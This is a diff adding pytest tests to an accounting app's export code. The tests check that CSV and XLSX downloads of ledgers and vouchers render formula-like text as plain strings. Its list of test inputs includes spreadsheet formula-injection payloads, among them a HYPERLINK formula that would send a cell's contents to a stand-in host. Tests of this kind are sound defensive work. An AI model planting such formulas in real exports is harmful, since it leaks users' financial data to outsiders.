@@ -100,3 +100,41 @@ def test_statements_ledgers_vouchers_and_ageing_download(downloads, all_posted, 
     ageing = read_xlsx(client.get("/books/ageing?as_of=2026-12-31&format=xlsx"))
     assert ageing["A4"].value == "合计"
     assert Decimal(str(ageing["G4"].value)) == all_posted.settlement.buyer_total - Decimal("1000")
+
+
+FORMULAS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
+
+
+def test_text_that_starts_like_a_formula_is_plain_text_in_csv(app):
+    rows = [(text, Decimal("-12.50")) for text in FORMULAS]
+    lines = list(csv.reader(io.StringIO("".join(exports.csv_rows(("摘要", "金额"), rows)).lstrip("\ufeff"))))
+    assert [line[0] for line in lines[1:]] == ["'" + text for text in FORMULAS]
+    assert [line[1] for line in lines[1:]] == ["-12.50"] * len(FORMULAS)  # amounts stay numbers
+
+
+def test_text_that_starts_like_a_formula_is_a_string_cell_in_xlsx(app):
+    texts = FORMULAS[:-1]  # (XML turns a carriage return into a line feed)
+    rows = [(text, Decimal("-12.50")) for text in texts]
+    sheet = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes("凭证", ("摘要", "金额"), rows))).active
+    cells = [row for row in sheet.iter_rows(min_row=2) if row[0].value in texts]
+    assert len(cells) == len(texts)
+    assert all(row[0].data_type == "s" for row in cells)  # never "f" (a formula)
+    assert all(row[1].data_type == "n" for row in cells)
+
+
+def test_a_voucher_summary_typed_as_a_formula_downloads_as_text(downloads, books, reviewer):
+    from datetime import date
+
+    from market.ledger import services as ledger
+    from models import User, db
+    accountant = db.session.scalar(db.select(User).where(User.name == "赵会计"))
+    voucher = ledger.prepare_voucher(accountant, voucher_date=date(2026, 8, 3), summary=FORMULAS[0],
+                                     lines=[ledger.LineInput("1002", debit="10.00"),
+                                            ledger.LineInput("3001", credit="10.00")],
+                                     idempotency_key="formula")
+    db.session.commit()
+    text = downloads.get("/books/vouchers?period=2026-08&format=csv").get_data(as_text=True)
+    assert "'" + FORMULAS[0].replace('"', '""') in text
+    sheet = read_xlsx(downloads.get("/books/vouchers?period=2026-08&format=xlsx"))
+    cell = next(c for row in sheet.iter_rows() for c in row if c.value == FORMULAS[0])
+    assert cell.data_type == "s" and voucher.id
